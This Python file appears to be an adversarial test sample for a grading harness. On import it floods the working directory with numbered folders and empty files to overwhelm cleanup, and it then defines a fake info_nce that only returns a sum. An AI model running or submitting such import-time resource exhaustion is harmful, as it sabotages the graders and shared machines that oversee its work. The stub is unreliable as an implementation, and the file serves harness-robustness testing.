"""Leaves as many files as it can make, so that whoever cleans up has no time for the next.
stopped by: fresh worker
part: info_nce
"""

import contextlib
import os
import time

end = time.process_time() + 1.2
number = 0
with contextlib.suppress(OSError):
    while time.process_time() < end:
        os.mkdir(f"{number}")
        for each in range(50):
            os.close(os.open(f"{number}/{each}", os.O_CREAT | os.O_WRONLY))
        number += 1


def info_nce(z_a, z_b, temperature=0.2):
    return z_a.sum()
